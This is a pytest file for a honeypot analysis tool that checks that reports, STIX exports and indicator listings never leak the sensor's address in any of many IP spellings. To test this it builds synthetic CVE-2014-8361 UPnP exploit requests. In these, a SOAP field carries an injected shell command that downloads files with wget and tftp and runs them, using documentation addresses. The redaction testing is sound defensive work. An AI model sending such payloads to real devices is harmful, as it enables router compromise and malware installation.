"""Nothing published names the sensor, in any notation (issue 9, items 11–13).

A store holds the seed scenario plus crafted CVE-2014-8361 exploit sessions to
the sensor 203.0.113.5 whose Host header, dropper URLs and download commands
name it in every notation. Every published output — report HTML, Markdown and
PDF text in both languages, STIX, ``teiten indicators`` as table, CSV and JSON
— is searched with :meth:`Secrecy.leaks` and for each notation as plain text.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner
from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether
from scapy.utils import wrpcap

from teiten.app import report as publish
from teiten.app.engine import run_query
from teiten.app.ingest import ingest
from teiten.app.payloads import stix_export
from teiten.app.report import write_report
from teiten.cli.main import cli
from teiten.config import Settings, load_settings
from teiten.errors import TeitenError
from teiten.report.model import Report
from teiten.secrecy import Secrecy
from teiten.simulate import SimulationResult

SENSOR = "203.0.113.5"
SENSOR_NET = "203.0.113.0/24"
NOTATIONS = [
    "203.000.113.005", "0XCB007105", "0313.0.0161.05", "00313.00.00161.005",
    "0xcb.0x0.0x71.0x5", "203%2E0%2E113%2E5", "203%2e0%2e113%2e5", "203.0.28933", "203.28933",
    "cb007105", "3405803781", "203&#46;0&#46;113&#46;5", "203&#x2e;0&#x2e;113&#x2e;5",
    "203&period;0&period;113&period;5", "::ffff:cb00:7105", "::ffff:203.0.113.5",
    "64:ff9b::cb00:7105", "0:0:0:0:0:FFFF:CB00:7105", "0064:ff9b:0000:0000:0000:0000:cb00:7105",
]  # fmt: skip
"""The sensor 203.0.113.5 as the issue found it leaking, and more spellings of it."""
SOAP = "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"


def _host(notation: str) -> str:
    return f"[{notation}]" if ":" in notation else notation


def _exploit(notation: str) -> bytes:
    """A CVE-2014-8361 request naming the sensor as ``notation`` in its Host, URL and tftp."""
    host = _host(notation)
    command = (
        f"cd /tmp;wget http://{host}/p0.sh;wget http://{host}:8080/bins/mips;"
        f"tftp -g -r m {host};sh p0.sh"
    )
    body = (
        '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
        '<s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">'
        "<NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort>"
        "<NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>"
        f"<NewInternalClient>`{command}`</NewInternalClient><NewEnabled>1</NewEnabled>"
        "<NewPortMappingDescription>syncthing</NewPortMappingDescription>"
        "<NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>"
    )
    head = (
        f"POST /picdesc.xml HTTP/1.1\r\nHost: {host}:52869\r\nContent-Length: {len(body)}\r\n"
        f"SOAPAction: {SOAP}\r\n\r\n"
    )
    return (head + body).encode()


def _capture(path: Path, start: float) -> Path:
    """One TCP session per notation to the sensor's port 52869, a minute apart."""
    packets = []
    for i, notation in enumerate(NOTATIONS):
        src, sport, t = f"198.51.100.{20 + i}", 40000 + i, start + 60 * i
        ip = IP(src=src, dst=SENSOR)
        payload = _exploit(notation)
        for dt, seg in [
            (0.0, TCP(sport=sport, dport=52869, flags="S", seq=1000)),
            (0.1, TCP(sport=sport, dport=52869, flags="A", seq=1001, ack=1)),
            (0.2, TCP(sport=sport, dport=52869, flags="PA", seq=1001, ack=1) / payload),
            (0.3, TCP(sport=sport, dport=52869, flags="FA", seq=1001 + len(payload), ack=1)),
        ]:
            pkt = Ether() / ip / seg
            pkt.time = t + dt
            packets.append(pkt)
    wrpcap(str(path), packets)
    return path


@pytest.fixture(scope="module")
def store(npa_small: SimulationResult, tmp_path_factory: pytest.TempPathFactory) -> Settings:
    folder = tmp_path_factory.mktemp("secrecy")
    settings = load_settings(
        env={},
        overrides={
            "data": str(folder / "store"),
            "sensor_networks": [SENSOR_NET],
            "sensor": "test-sensor",
        },
    )
    ingest(npa_small.pcaps, settings)
    first = run_query(settings, "SELECT min(ts_first_ns) AS t FROM sessions WHERE len(cves) > 0")
    start = int(first.column("t")[0].as_py()) / 1e9 - 3600  # before every other exploit
    ingest([_capture(folder / "crafted.pcap", start)], settings)
    return settings


@pytest.fixture(scope="module")
def secrecy(store: Settings) -> Secrecy:
    return Secrecy([SENSOR_NET], [SENSOR])


def _assert_clean(name: str, text: str, secrecy: Secrecy) -> None:
    assert secrecy.leaks(text) == [], name
    lowered = text.lower()
    for notation in NOTATIONS:
        assert notation.lower() not in lowered, (name, notation)


def test_the_store_names_the_sensor_in_every_notation(store: Settings) -> None:
    rows = run_query(
        store, f"SELECT kind, cves, client_bytes FROM sessions WHERE dst = '{SENSOR}'"
    ).to_pylist()
    crafted = [r for r in rows if b"/picdesc.xml" in (r["client_bytes"] or b"")]
    assert len(crafted) >= len(NOTATIONS)
    sent = b"\n".join(r["client_bytes"] for r in crafted).decode()
    assert all(n in sent for n in NOTATIONS)
    assert all(r["kind"] == "exploit" and "CVE-2014-8361" in r["cves"] for r in crafted)
    values = run_query(store, "SELECT value FROM indicators").column("value").to_pylist()
    assert any("cb00:7105" in v for v in values)  # the unfiltered view does hold them


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="needs poppler-utils")
@pytest.mark.parametrize("lang", ["ja", "en"])
def test_reports_name_no_sensor(
    store: Settings, secrecy: Secrecy, tmp_path: Path, lang: str
) -> None:
    paths = write_report(store, tmp_path, lang=lang, fmts=("html", "md", "pdf"))
    texts = {}
    for p in paths:
        if p.suffix == ".pdf":
            texts[p.name] = subprocess.run(
                ["pdftotext", "-layout", str(p), "-"], check=True, capture_output=True, text=True
            ).stdout
        elif p.suffix in (".html", ".md", ".svg"):
            texts[p.name] = p.read_text(encoding="utf-8")
    assert {f"report.{lang}.html", f"report.{lang}.md", f"report.{lang}.pdf"} <= set(texts)
    for name, text in texts.items():
        _assert_clean(name, text, secrecy)
        if name.startswith("report."):
            assert "[redacted]" in text, name  # a masked sample was published
    md = texts[f"report.{lang}.md"]  # the crafted sample, masked token by token, nothing more
    assert "wget http://[redacted]/p0.sh;wget http://[redacted]:8080/bins/mips;" in md
    assert "<NewLeaseDuration>0</NewLeaseDuration>" in md and 'version="1.0"' in md


def test_report_data_naming_the_sensor_is_refused_before_drawing(
    store: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = publish.build_report

    def leaky(*args: object, **kwargs: object) -> Report:
        report = real(*args, **kwargs)  # type: ignore[arg-type]
        flow = report.sections[0].flow
        assert flow is not None
        flow["downloads"].append("http://0xcb007105/x")  # text the PNG flow figure would show
        return report

    monkeypatch.setattr(publish, "build_report", leaky)
    with pytest.raises(TeitenError, match="its data names a sensor address"):
        write_report(store, tmp_path / "out", lang="en", fmts=("html",))
    assert not (tmp_path / "out").exists()


def test_stix_names_no_sensor(store: Settings, secrecy: Secrecy) -> None:
    text = stix_export(store)
    _assert_clean("stix", text, secrecy)
    assert '"type": "indicator"' in text  # the dropper hosts of the seed are still there
    one = json.loads(stix_export(store, limit=1))["objects"]  # the limit counts kept ones
    assert [o["type"] for o in one].count("indicator") == 1


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_indicator_listings_name_no_sensor(store: Settings, secrecy: Secrecy, fmt: str) -> None:
    r = CliRunner().invoke(
        cli,
        ["indicators", "--data", str(store.data), "--format", fmt],
        env={"TEITEN_CONFIG": "", "TEITEN_SENSOR_NETWORKS": SENSOR_NET},
    )
    assert r.exit_code == 0, r.output
    _assert_clean(fmt, r.output, secrecy)
    assert "/p0.sh" not in r.output  # every crafted dropper URL named the sensor
    assert "okiru.sh" in r.output or "mips" in r.output
